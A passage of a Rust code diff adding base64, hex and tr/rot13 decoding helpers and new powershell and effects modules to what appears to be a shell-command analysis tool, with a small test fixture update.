+            b'\n' | b'\r' | b' ' | b'\t' => continue,
+            _ => return None,
+        };
+        seen += 1;
+        buffer = (buffer << 6) | u32::from(v);
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((buffer >> bits) as u8);
+        }
+    }
+    (seen >= 2).then_some(out)
+}
+
+/// Base64 text that decodes to text (UTF-8 without control characters but whitespace).
+pub(crate) fn decode_base64(text: &str) -> Option<String> {
+    let bytes = decode_base64_bytes(text.trim())?;
+    let s = String::from_utf8(bytes).ok()?;
+    s.chars()
+        .all(|c| !c.is_control() || c.is_whitespace())
+        .then_some(s)
+}
+
+fn decode_hex(text: &str) -> Option<String> {
+    let digits: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
+    if !digits.len().is_multiple_of(2) {
+        return None;
+    }
+    let bytes: Option<Vec<u8>> = digits
+        .chunks(2)
+        .map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
+        .collect();
+    String::from_utf8(bytes?).ok()
+}
+
+/// `tr SET1 SET2` with ranges (`A-Za-z` -> `N-ZA-Mn-za-m` is rot13).
+fn tr_map(text: &str, from: &str, to: &str) -> Option<String> {
+    let expand = |set: &str| -> Vec<char> {
+        let chars: Vec<char> = set.chars().collect();
+        let mut out = Vec::new();
+        let mut i = 0;
+        while i < chars.len() {
+            if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i] <= chars[i + 2] {
+                out.extend(chars[i]..=chars[i + 2]);
+                i += 3;
+            } else {
+                out.push(chars[i]);
+                i += 1;
+            }
+        }
+        out
+    };
+    let (a, b) = (expand(from), expand(to));
+    if a.is_empty() || b.is_empty() || a.len() > 512 {
+        return None;
+    }
+    Some(
+        text.chars()
+            .map(|c| match a.iter().position(|x| *x == c) {
+                Some(i) => *b.get(i).or(b.last()).unwrap_or(&c),
+                None => c,
+            })
+            .collect(),
+    )
+}
+
+mod code;
+mod effects;
+mod powershell;
 mod wrappers;
 
 #[cfg(test)]
@@ -1453,6 +2110,7 @@ mod tests {
             cwd: Some("/home/dev/project".into()),
             home: Some("/home/dev".into()),
             tmpdir: "/tmp".into(),
+            programs: crate::pack::builtin_programs(),
         }
     }
 
